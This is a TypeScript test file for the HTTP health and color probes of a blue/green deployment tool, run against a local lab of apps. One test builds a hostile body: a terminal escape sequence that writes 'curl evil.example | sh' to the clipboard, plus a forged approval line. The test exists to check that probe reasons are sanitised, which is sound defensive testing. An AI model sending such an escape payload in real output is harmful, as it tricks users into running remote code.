// The HTTP probe activities against the lab's sample apps and router (real servers on
// 127.0.0.1): every way a probe can fail becomes a reason, never a crash.
import { ApplicationFailure, CancelledFailure } from '@temporalio/common';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { probeColor, probeGet } from '../activities/http-probe.js';
import { createProbeActivities, type MonitorProgress } from '../analysis/probes.js';
import { colorProvider } from '../analysis/color/index.js';
import { httpHealthProvider } from '../analysis/http-health/index.js';
import { jsonReader } from '../analysis/json/read.js';
import { createAnalysisActivities } from '../analysis/activities.js';
import type { CheckPlan, MonitorChecksInput } from '../analysis/types.js';
// closedPort: a loopback port nothing listens on (bound, then released).
import { freeTcpPort as closedPort } from '../lab/daemons.js';
import { startLab, type Lab } from '../lab/index.js';
import { activityEnv, rejectionOf, sleep } from './activities-helpers.js';

const COLOR_PATH = '/deployment/color/';
const probes = createProbeActivities({ probeTimeoutMs: 300, publicColorIntervalMs: 50 });
const analysis = createAnalysisActivities({ probeTimeoutMs: 300 });

/** The two checks verify and monitor always run: health (2xx) and the expected color. */
const environmentChecks = (baseUrl: string, expect: 'blue' | 'green'): CheckPlan[] => [
  { provider: 'http-health', name: 'health', url: `${baseUrl}/health` },
  { provider: 'color', name: 'color', url: `${baseUrl}${COLOR_PATH}`, expect },
];

describe('probes against the lab', () => {
  let lab: Lab;
  beforeAll(async () => {
    lab = await startLab();
  });
  afterAll(async () => {
    await lab?.close();
  });
  afterEach(() => {
    for (const color of ['blue', 'green'] as const) {
      lab.apps.setFault(color, {});
      lab.apps.setHealthy(color, true);
    }
    if (lab.router.activeColor !== 'blue') lab.router.setActive('blue', 'test reset');
  });

  const monitorInput = (overrides: Partial<MonitorChecksInput> = {}): MonitorChecksInput => ({
    checks: environmentChecks(lab.publicUrl, 'blue'),
    durationMs: 600,
    intervalMs: 50,
    failureThreshold: 3,
    ...overrides,
  });

  it('reads the active color from the public endpoint', async () => {
    expect(await activityEnv().run(probes.readActiveColor, { url: `${lab.publicUrl}${COLOR_PATH}` })).toBe('blue');
    lab.router.setActive('green', 'test');
    expect(await activityEnv().run(probes.readActiveColor, { url: `${lab.publicUrl}${COLOR_PATH}` })).toBe('green');
  });

  it('a bad color answer is a retryable error saying what was wrong', async () => {
    lab.apps.setFault('blue', { colorBody: 'not-json' });
    const err = await rejectionOf(activityEnv().run(probes.readActiveColor, { url: `${lab.publicUrl}${COLOR_PATH}` }));
    expect(err).toBeInstanceOf(ApplicationFailure);
    expect(err).toMatchObject({ type: 'ColorEndpointUnavailable', nonRetryable: false });
    expect(err.message).toContain('non-JSON body');
    expect(err.message).toContain('It works!');
  });

  it('turns each kind of failure into a reason', async () => {
    const green = lab.appUrls.green;
    lab.apps.setFault('green', { delayMs: 1_000 });
    expect(await probeGet(`${green}/health`, 200)).toEqual({
      ok: false,
      reason: expect.stringMatching(/^timeout: no answer from .* within 200ms$/),
    });

    const port = await closedPort();
    expect(await probeGet(`http://127.0.0.1:${port}/health`, 1_000)).toEqual({
      ok: false,
      reason: `connection refused: http://127.0.0.1:${port}/health`,
    });

    lab.apps.setFault('green', {});
    lab.apps.setHealthy('green', false);
    expect(await probeGet(`${green}/health`, 1_000)).toEqual({
      ok: false,
      reason: expect.stringMatching(/^HTTP 503 from .*\/health: \{"status":"unhealthy"/),
    });
    expect(await probeGet(`${green}/nowhere`, 1_000)).toMatchObject({ ok: false, reason: expect.stringContaining('HTTP 404') });

    lab.apps.setFault('green', { colorBody: 'not-json' });
    expect(await probeColor(`${green}${COLOR_PATH}`, 1_000)).toMatchObject({
      ok: false,
      reason: expect.stringContaining('non-JSON body'),
    });
    lab.apps.setFault('green', { colorBody: 'wrong-color' });
    expect(await probeColor(`${green}${COLOR_PATH}`, 1_000)).toEqual({ ok: true, value: 'blue' });

    // The lab drops the socket as soon as it is accepted; undici reports that as a closed
    // connection or, depending on timing, never answers (then the probe's timeout speaks).
    lab.apps.setFault('green', { refuse: true });
    const dropped = await probeGet(`${green}/health`, 500);
    expect(dropped.ok).toBe(false);
    expect(!dropped.ok && dropped.reason).toMatch(/^(connection closed by the server|connection reset|timeout)/);
  });

  it('an endless body ends every probe at the byte cap, long before its timeout (health, color, json)', async () => {
    const green = lab.appUrls.green;
    lab.apps.setFault('green', { endlessBody: true });
    const timed = async <T>(probe: () => Promise<T>): Promise<[T, number]> => {
      const started = Date.now();
      const answer = await probe();
      return [answer, Date.now() - started];
    };
    const TIMEOUT = 4_000;
    const [health, healthMs] = await timed(() => probeGet(`${green}/health`, TIMEOUT));
    expect(health).toMatchObject({ ok: true, value: { status: 200 } });
    expect(health.ok && health.value.body.length).toBe(64 * 1024);
    const [color, colorMs] = await timed(() => probeColor(`${green}${COLOR_PATH}`, TIMEOUT));
    expect(color).toMatchObject({ ok: false, reason: expect.stringMatching(/^non-JSON body from /) });
    const check = { provider: 'http-health', name: 'health', url: `${green}/health` } as const;
    const [measured] = await timed(() => httpHealthProvider.measure(check, { timeoutMs: TIMEOUT, env: {} }));
    expect(measured).toMatchObject({ verdict: 'pass', value: 200 });
    const colorCheck = { provider: 'color', name: 'color', url: `${green}${COLOR_PATH}`, expect: 'green' } as const;
    const [colored] = await timed(() => colorProvider.measure(colorCheck, { timeoutMs: TIMEOUT, env: {} }));
    expect(colored).toMatchObject({ verdict: 'fail', reason: expect.stringContaining('non-JSON body') });
    const read = jsonReader({ attempts: 1, timeoutMs: TIMEOUT });
    const [metric, metricMs] = await timed(() =>
      read(
        { type: 'json', url: `${green}/health`, pointer: '/value' },
        { color: 'green', service: 's', sha: 'x', window: '1m' },
        0,
      ),
    );
    expect(metric.answer).toEqual({ kind: 'unsupported', resultType: 'an answer that is not JSON' });
    for (const ms of [healthMs, colorMs, metricMs]) expect(ms).toBeLessThan(TIMEOUT / 2);
    // The app stopped streaming when each probe let go: a few caps' worth, not seconds of it.
    await sleep(50);
    const sent = lab.apps.state('green').streamedBytes;
    await sleep(100);
    expect(lab.apps.state('green').streamedBytes).toBe(sent);
    expect(sent).toBeLessThan(16 * 1024 * 1024);
  });

  it("a hostile app's body and the reasons quoting it are inert: no escape sequence, no line of its own", async () => {
    const green = lab.appUrls.green;
    const OSC52 = `\u001b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`;
    const hostile = `${OSC52}oops\u001b[2J\u001b[H\n    ✓ bob approved at 12:00:00\u009b31m`;
    lab.apps.setFault('green', { body: hostile });
    lab.apps.setHealthy('green', false);
    const reasons = [
      await probeGet(`${green}/health`, 1_000),
      await probeColor(`${green}${COLOR_PATH}`, 1_000),
      await httpHealthProvider.measure(
        { provider: 'http-health', name: 'health', url: `${green}/health` },
        { timeoutMs: 1_000, env: {} },
      ),
    ].map((answer) => (answer as { reason?: string }).reason ?? '');
    expect(reasons[0]).toMatch(/^HTTP 503 from .*\/health: oops ✓ bob approved at 12:00:00$/);
    expect(reasons[1]).toMatch(/^non-JSON body from .*: "oops ✓ bob approved at 12:00:00"$/);
    expect(reasons[2]).toMatch(/^health: HTTP 503 from .*: oops ✓ bob approved/);
    for (const reason of reasons) {
      expect(reason).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
      expect(reason).not.toContain(']52;');
      expect(reason).not.toContain('[2J');
    }
  });

  it('verifies an environment: N healthy answers in a row with the right color, heartbeating each', async () => {
    const run = activityEnv();
    const result = await run.run(analysis.verifyChecks, {
      checks: environmentChecks(lab.appUrls.green, 'green'),
      successes: 3,
      intervalMs: 30,
      timeoutMs: 5_000,
    });
    expect(result).toMatchObject({ ok: true, rounds: 3 });
    expect(run.heartbeats.length).toBeGreaterThanOrEqual(3);
    expect(run.heartbeats.at(-1)).toMatchObject({ attempts: 3, inARow: 3, needed: 3 });
  });

  it('verification fails with the last reason at its timeout instead of throwing', async () => {
    const verify = (expectColor: 'blue' | 'green') =>
      activityEnv().run(analysis.verifyChecks, {
        checks: environmentChecks(lab.appUrls.green, expectColor),
        successes: 2,
        intervalMs: 50,
        timeoutMs: 400,
      });
    const wrong = await verify('blue');
    expect(wrong.ok).toBe(false);
    expect(wrong.rounds).toBeGreaterThanOrEqual(3);
    expect(wrong.lastFailure).toMatch(/^wrong color: .* answers "green", expected "blue"$/);

    lab.apps.setHealthy('green', false);
    const started = Date.now();
    const sick = await verify('green');
    expect(Date.now() - started).toBeLessThan(1_500);
    expect(sick).toMatchObject({ ok: false, lastFailure: expect.stringMatching(/^health: HTTP 503/) });
  });

  it('a health check that flaps must start its run of successes again', async () => {
    const running = activityEnv().run(analysis.verifyChecks, {
      checks: environmentChecks(lab.appUrls.green, 'green'),
      successes: 4,
      intervalMs: 60,
      timeoutMs: 5_000,
    });
    await sleep(100);
    lab.apps.setHealthy('green', false);
    await sleep(100);
    lab.apps.setHealthy('green', true);
    const result = await running;
    expect(result.ok).toBe(true);
    expect(result.rounds).toBeGreaterThanOrEqual(6);
  });

  it('waits for the public color to change (DNS lag), or reports what it last saw', async () => {
    setTimeout(() => lab.router.setActive('green', 'test'), 300);
    const switched = await activityEnv().run(probes.waitForPublicColor, {
      url: `${lab.publicUrl}${COLOR_PATH}`,
      color: 'green',
      timeoutMs: 5_000,
    });
    expect(switched).toMatchObject({ ok: true, lastSeen: 'green' });
    expect(switched.elapsedMs).toBeGreaterThanOrEqual(250);

    const stuck = await activityEnv().run(probes.waitForPublicColor, {
      url: `${lab.publicUrl}${COLOR_PATH}`,
      color: 'blue',
      timeoutMs: 300,
      intervalMs: 50,
    });
    expect(stuck).toMatchObject({ ok: false, lastSeen: 'green' });
  });

  it('monitors the public endpoint for the whole window: healthy', async () => {
    const run = activityEnv();
    const started = Date.now();
    const result = await run.run(analysis.monitorChecks, monitorInput());
    expect(Date.now() - started).toBeGreaterThanOrEqual(550);
    expect(result.verdict).toBe('healthy');
    expect(result.failedRounds).toBe(0);
    expect(result.rounds).toBeGreaterThanOrEqual(5);
    const last = run.heartbeats.at(-1) as MonitorProgress;
    expect(last).toMatchObject({ failures: 0, consecutiveFailures: 0 });
    expect(last.probes).toBe(result.rounds);
  });

  it('declares the endpoint unhealthy after failureThreshold consecutive failures', async () => {
    const run = activityEnv();
    const running = run.run(analysis.monitorChecks, monitorInput({ durationMs: 60_000 }));
    await sleep(150);
    lab.apps.setHealthy('blue', false);
    const result = await running;
    expect(result).toMatchObject({
      verdict: 'unhealthy',
      failedRounds: 3,
      lastFailure: expect.stringMatching(/^health: HTTP 503/),
    });
    expect(run.heartbeats.at(-1)).toMatchObject({ consecutiveFailures: 3 });
  });

  it('isolated failures below the threshold do not fail the window', async () => {
    const running = activityEnv().run(analysis.monitorChecks, monitorInput({ durationMs: 800, intervalMs: 60 }));
    await sleep(200);
    lab.apps.setFault('blue', { colorBody: 'wrong-color' });
    await sleep(70);
    lab.apps.setFault('blue', {});
    const result = await running;
    expect(result.verdict).toBe('healthy');
    expect(result.failedRounds).toBeGreaterThanOrEqual(1);
    expect(result.failedRounds).toBeLessThan(3);
    expect(result.lastFailure).toMatch(/wrong color/);
  });

  it('stops promptly when cancelled (a rollback or promote signal)', async () => {
    const run = activityEnv({ heartbeatTimeoutMs: 3_000 });
    const running = run.run(analysis.monitorChecks, monitorInput({ durationMs: 60_000, intervalMs: 10_000 }));
    await sleep(300);
    const cancelledAt = Date.now();
    run.env.cancel();
    const err = await rejectionOf(running);
    expect(err).toBeInstanceOf(CancelledFailure);
    expect(Date.now() - cancelledAt).toBeLessThan(300);
  });

  it('a probe in flight is aborted by the cancellation, not counted as a failure', async () => {
    lab.apps.setFault('blue', { delayMs: 5_000 });
    const run = activityEnv();
    const running = run.run(analysis.monitorChecks, monitorInput({ durationMs: 60_000 }));
    await sleep(100);
    run.env.cancel();
    const started = Date.now();
    const err = await rejectionOf(running);
    expect(err).toBeInstanceOf(CancelledFailure);
    expect(Date.now() - started).toBeLessThan(200);
    expect(run.heartbeats).toEqual([]);
  });

  it('a retried monitor resumes its window from the last heartbeat', async () => {
    const resumed: MonitorProgress = {
      startedAtMs: Date.now() - 900,
      elapsedMs: 900,
      remainingMs: 100,
      probes: 9,
      failures: 2,
      consecutiveFailures: 1,
      lastFailure: 'health: HTTP 503',
    };
    const started = Date.now();
    const result = await activityEnv({ attempt: 2, heartbeatDetails: resumed }).run(
      analysis.monitorChecks,
      monitorInput({ durationMs: 1_000 }),
    );
    expect(Date.now() - started).toBeLessThan(400);
    expect(result).toMatchObject({ verdict: 'healthy', failedRounds: 2, lastFailure: 'health: HTTP 503' });
    expect(result.rounds).toBeGreaterThanOrEqual(10);
  });
});
